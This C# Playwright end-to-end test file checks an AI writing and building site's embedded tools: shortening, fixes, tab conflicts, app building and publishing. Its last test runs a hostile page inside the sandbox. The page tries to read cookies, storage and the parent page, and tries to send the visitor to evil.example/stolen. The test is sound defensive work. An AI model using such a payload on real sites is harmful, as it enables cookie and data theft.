using Aurion.E2E.Harness;
using Microsoft.Playwright;
using Xunit.Abstractions;
using static Microsoft.Playwright.Assertions;

namespace Aurion.E2E;

/// <summary>What people make in the tools, by hand, and what a hostile page cannot do.</summary>
public sealed class EmbeddedToolTests(AurionSite site, ITestOutputHelper output) : BrowserTest(site, output)
{
    [Theory]
    [InlineData("en", false, 1280)]
    [InlineData("fr", true, 390)]
    public async Task A_text_is_shortened_survives_a_reload_and_stands_under_your_work(string language, bool dark, int width)
    {
        var visitor = await VisitAsync(new(language, dark, width));
        await visitor.SignUpAsync();
        await visitor.LaunchAsync("text-editor");
        var tool = visitor.Tool;
        await tool.Locator("[data-example]").First.ClickAsync();
        await tool.Locator("#doc p").First.ClickAsync(new() { ClickCount = 3 });
        await tool.Locator("[data-command=shorten]").ClickAsync();
        await tool.Locator("[data-accept]").ClickAsync();
        await Expect(tool.Locator("#doc")).ToContainTextAsync(language == "fr" ? "Comme la pompe" : "Because the pump");
        await Expect(tool.Locator("[data-calls]").First).ToContainTextAsync("19");
        await visitor.CheckAsync();
        await SavedAsync(visitor);

        await visitor.Page.ReloadAsync();
        await Expect(tool.Locator("#doc")).ToContainTextAsync(language == "fr" ? "Comme la pompe" : "Because the pump");
        await visitor.OpenAsync("/work");
        await visitor.Page.Locator(".piece a").First.ClickAsync();
        await Expect(visitor.Page.Locator(".md")).ToContainTextAsync(language == "fr" ? "Comme la pompe" : "Because the pump");
        await visitor.CheckAsync();
        await visitor.SeesBalanceAsync(95);
    }

    [Theory]
    [InlineData("en", false, 1280)]
    [InlineData("fr", true, 390)]
    public async Task What_the_model_writes_is_stopped_and_the_page_says_what_counts(string language, bool dark, int width)
    {
        var isFrench = language == "fr";
        var visitor = await VisitAsync(new(language, dark, width));
        await visitor.SignUpAsync();
        await visitor.LaunchAsync("content-generator");
        var tool = visitor.Tool;
        await tool.Locator("#subject").FillAsync("A bakery that opens on Sundays fail:silence");
        await tool.Locator("#count").SelectOptionAsync("1");
        await tool.Locator("#write").ClickAsync();
        await Expect(tool.Locator("#halt")).ToBeVisibleAsync();
        await visitor.CheckAsync();
        await tool.Locator("#halt").PressAsync("Enter");
        await Expect(tool.Locator("#said")).ToContainTextAsync(isFrench ? "ne compte pas comme un appel" : "counts as no call");
        await Expect(tool.Locator("#halt")).ToBeHiddenAsync();
        await Expect(tool.Locator("#said button")).ToBeFocusedAsync();
        await Expect(tool.Locator("[data-calls]").First).ToContainTextAsync("20");

        await tool.Locator("#subject").FillAsync("A bakery that opens on Sundays fail:slow");
        await tool.Locator("#write").ClickAsync();
        await Expect(tool.Locator(".variant textarea")).Not.ToHaveValueAsync("");
        await tool.Locator("#halt").ClickAsync();
        await Expect(tool.Locator("#said")).ToContainTextAsync(isFrench ? "compte pour un appel" : "counts as one call");
        await Expect(tool.Locator(".variant textarea")).Not.ToHaveValueAsync("");
        await Expect(tool.Locator("[data-calls]").First).ToContainTextAsync("19");
        await visitor.CheckAsync();
    }

    [Fact]
    public async Task A_suggestion_that_keeps_most_words_shows_which_ones_it_changes()
    {
        var visitor = await VisitAsync();
        await visitor.SignUpAsync();
        await visitor.LaunchAsync("text-editor");
        var doc = visitor.Tool.Locator("#doc");
        await doc.FillAsync("We have recieved the plan and we definately agree with it.");
        await visitor.Tool.Locator("[data-command=fix]").ClickAsync();
        await Expect(doc.Locator("del")).ToHaveTextAsync(["recieved", "definately"]);
        await Expect(doc.Locator("ins")).ToHaveTextAsync(["insert: received", "insert: definitely"]);
        await visitor.CheckAsync();
        await doc.Locator("[data-accept]").ClickAsync();
        await Expect(doc).ToHaveTextAsync("We have received the plan and we definitely agree with it.");
    }

    [Fact]
    public async Task Two_tabs_with_one_text_ask_and_keep_both()
    {
        var visitor = await VisitAsync();
        visitor.Expect(409);
        await visitor.SignUpAsync();
        await visitor.LaunchAsync("text-editor");
        await visitor.Tool.Locator("#doc").FillAsync("The first tab");
        await SavedAsync(visitor);
        var second = await visitor.OpenTabAsync("/tools/text-editor");
        second.Expect(409);
        await Expect(second.Tool.Locator("#doc")).ToContainTextAsync("The first tab");
        await second.Tool.Locator("#doc").FillAsync("The second tab");
        await SavedAsync(second);

        await visitor.Tool.Locator("#doc").FillAsync("The first tab again");
        await visitor.Tool.Locator("#conflict button[value=theirs]").ClickAsync();
        await Expect(visitor.Tool.Locator("#doc")).ToContainTextAsync("The second tab");
        await SavedAsync(visitor);
        await visitor.Tool.Locator("#versions summary").ClickAsync();
        await Expect(visitor.Tool.Locator("#versions [data-list] button")).ToHaveCountAsync(3);
    }

    [Theory]
    [InlineData("A booking app for a rowing club: the boat, the rowers, and the hours of a day.", "bookings", "Heron, Ada")]
    [InlineData("A log of firings for a pottery kiln: date, temperature, glaze, and what came out.", "entries", "Celadon, cone 10")]
    [InlineData("A shared list of who brings what to the summer party, with how many are still missing.", "contributions", "Bread, Inès")]
    public async Task An_app_is_planned_built_used_changed_and_published(string brief, string many, string entry)
    {
        var visitor = await VisitAsync();
        await visitor.SignUpAsync();
        await visitor.LaunchAsync("app-builder");
        var tool = visitor.Tool;
        await tool.Locator("#brief").FillAsync(brief);
        await tool.Locator("#composer button").ClickAsync();
        await tool.Locator("[data-build]").ClickAsync();
        var app = tool.FrameLocator("#preview");
        await Expect(app.Locator("#total")).ToHaveTextAsync("3");
        await Expect(app.Locator("header")).ToContainTextAsync(many);
        await visitor.CheckAsync();

        await app.Locator("#what").FillAsync(entry);
        foreach (var field in await app.Locator("#form input[required]").AllAsync())
            if ((await field.InputValueAsync()).Length == 0)
                await field.FillAsync(await field.GetAttributeAsync("type") == "number" ? "12" : "2026-06-01T10:00");
        await app.Locator("#form button").ClickAsync();
        await Expect(app.Locator("#list")).ToContainTextAsync(entry);
        await Expect(app.Locator("#total")).ToHaveTextAsync("4");

        await tool.Locator("#brief").FillAsync("Make the accent colour green");
        await tool.Locator("#composer button").ClickAsync();
        await tool.Locator(".plan [data-build]:visible").ClickAsync();
        await Expect(tool.Locator(".change")).ToHaveCountAsync(2);
        await Expect(app.Locator("#form button")).ToHaveCSSAsync("background-color", "rgb(31, 107, 69)");
        await Expect(tool.Locator("[data-calls]").First).ToContainTextAsync("16");

        await tool.Locator("#publish").ClickAsync();
        await tool.Locator("#publish-now").ClickAsync();
        var address = await tool.Locator("#publish-address[href]").GetAttributeAsync("href");
        var stranger = await VisitAsync();
        await stranger.Page.GotoAsync(address!);
        await Expect(stranger.Page.Locator("#total")).ToHaveTextAsync("3");
    }

    [Fact]
    public async Task A_fault_of_the_preview_is_repaired_for_nothing_and_edits_that_do_not_fit_are_mended_for_nothing()
    {
        var visitor = await VisitAsync();
        visitor.Overlook("ReferenceError: store is not defined");
        await visitor.SignUpAsync();
        await visitor.LaunchAsync("app-builder");
        var tool = visitor.Tool;
        await tool.Locator("#brief").FillAsync("An order list for the bakery fail:broken");
        await tool.Locator("#composer button").ClickAsync();
        await tool.Locator("[data-build]").ClickAsync();
        await Expect(tool.Locator("[data-fault]")).ToContainTextAsync("store is not defined");
        await tool.Locator("[data-repair]").ClickAsync();
        await Expect(tool.FrameLocator("#preview").Locator("#list li").First).ToBeVisibleAsync();
        await Expect(tool.Locator("[data-calls]").First).ToContainTextAsync("18");

        await tool.Locator("#brief").FillAsync("Make the accent colour red fail:edit");
        await tool.Locator("#composer button").ClickAsync();
        await tool.Locator(".plan [data-build]:visible").ClickAsync();
        await Expect(tool.FrameLocator("#preview").Locator("#form button")).ToHaveCSSAsync("background-color", "rgb(163, 38, 42)");
        await Expect(tool.Locator("[data-calls]").First).ToContainTextAsync("16");
    }

    [Fact]
    public async Task A_site_has_pages_that_lead_to_each_other_and_a_program_is_corrected_and_run()
    {
        var visitor = await VisitAsync();
        await visitor.SignUpAsync();
        await visitor.LaunchAsync("website-builder");
        await visitor.Tool.Locator("#brief").FillAsync("A site for a village bakery: bread, opening hours, and how to find it.");
        await visitor.Tool.Locator("#composer button").ClickAsync();
        await visitor.Tool.Locator("[data-build]").ClickAsync();
        var page = visitor.Tool.FrameLocator("#preview");
        await page.GetByRole(AriaRole.Link, new() { Name = "Bread" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync("Bread");
        await visitor.CheckAsync();

        visitor.Overlook("TypeError: Cannot read properties of undefined");
        await visitor.LaunchAsync("code-editor");
        var tool = visitor.Tool;
        await tool.Locator("[data-example]").First.ClickAsync();
        await tool.Locator("#run").ClickAsync();
        await Expect(tool.Locator("#log")).ToContainTextAsync("undefined");
        await tool.Locator("[data-command=fix]").ClickAsync();
        await tool.Locator("#take").ClickAsync();
        await tool.Locator("#run").ClickAsync();
        await Expect(tool.Locator("#log")).ToHaveTextAsync("2088");
        await visitor.CheckAsync();
    }

    [Fact]
    public async Task An_article_has_variants_that_are_refined()
    {
        var visitor = await VisitAsync(new("fr", false, 390));
        await visitor.SignUpAsync();
        await visitor.LaunchAsync("content-generator");
        await visitor.Tool.Locator("[data-example]").First.ClickAsync();
        await visitor.Tool.Locator("#write").ClickAsync();
        await Expect(visitor.Tool.Locator(".variant .bar-line:visible")).ToHaveCountAsync(0);
        var first = visitor.Tool.Locator(".variant textarea").First;
        await Expect(first).ToHaveValueAsync(new System.Text.RegularExpressions.Regex("bol à soupe", System.Text.RegularExpressions.RegexOptions.None, TimeSpan.FromSeconds(1)));
        await Expect(visitor.Tool.Locator(".variant")).ToHaveCountAsync(2);
        await visitor.CheckAsync();
        await visitor.Tool.Locator("[data-refine]").Last.ClickAsync();
        await visitor.Tool.Locator(".variant").Last.Locator("[data-accept]").ClickAsync();
        await Expect(visitor.Tool.Locator(".variant textarea").Last).ToHaveValueAsync(new System.Text.RegularExpressions.Regex("Bonjour", System.Text.RegularExpressions.RegexOptions.None, TimeSpan.FromSeconds(1)));
        await Expect(visitor.Tool.Locator("[data-calls]").First).ToContainTextAsync("17");
    }

    [Fact]
    public async Task A_hostile_page_reads_nothing_reaches_nobody_and_one_that_runs_for_ever_leaves_the_tool_alive()
    {
        var visitor = await VisitAsync();
        foreach (var line in new[] { "Loading ", "Refused to ", "Connecting to ", "Framing ", "Unsafe attempt", "Failed to load resource", "Uncaught ", "Blocked ", "Blocking ", "Fetch API cannot", "The action has been blocked" })
            visitor.Overlook(line);
        visitor.ExpectAttempts("https://evil.example");
        var reached = new List<string>();
        visitor.Page.Context.RequestFinished += (_, request) => { if (request.Url.Contains("evil.example", StringComparison.Ordinal)) reached.Add(request.Url); };
        await visitor.SignUpAsync();
        await visitor.LaunchAsync("code-editor");
        await RunAsync("index.html", """
            <!doctype html><body><img src="https://evil.example/x.png"><script>
            const out = [], attempt = (name, act) => { try { act(); out.push(name + " DONE"); } catch { out.push(name + " refused"); } };
            attempt("cookie", () => document.cookie); attempt("storage", () => localStorage.length); attempt("parent", () => parent.document.title); attempt("top", () => { top.location = "https://evil.example/"; });
            fetch("https://evil.example/a").then(() => out.push("fetch DONE"), () => out.push("fetch refused"))
              .then(() => fetch("/js/aurion-tool.js")).then(() => out.push("own host DONE"), () => out.push("own host refused"))
              .then(() => { console.log(out.join(", ")); location = "https://evil.example/stolen"; });
            </script>
            """);

        await Expect(visitor.Tool.Locator("#log")).ToContainTextAsync("cookie refused, storage refused, parent refused, top refused, fetch refused, own host refused");
        Assert.Equal(visitor.Page.Url, Site.State.Web + "/tools/code-editor");

        await RunAsync("loop.html", "<!doctype html><p>loop</p><script>for (;;) {}</script>");
        await visitor.Tool.Locator("#title").FillAsync("Still alive");
        await Expect(visitor.Tool.Locator("#saved")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex("^Saved", System.Text.RegularExpressions.RegexOptions.None, TimeSpan.FromSeconds(1)));
        Assert.Empty(reached);

        async Task RunAsync(string path, string text)
        {
            if (await visitor.Tool.Locator("#files button").CountAsync() > 0)
                await visitor.Tool.Locator("#delete-file").ClickAsync();
            await visitor.Tool.Locator("#new-path").FillAsync(path);
            await visitor.Tool.Locator("#new-file button").ClickAsync();
            await visitor.Tool.Locator(".cm-content").FillAsync(text);
            await visitor.Tool.Locator("#run").ClickAsync();
        }
    }

    private static Task SavedAsync(Visitor visitor) => Expect(visitor.Tool.Locator("#saved")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex("^(Saved|Enregistré)", System.Text.RegularExpressions.RegexOptions.None, TimeSpan.FromSeconds(1)), new() { Timeout = 15_000 });
}
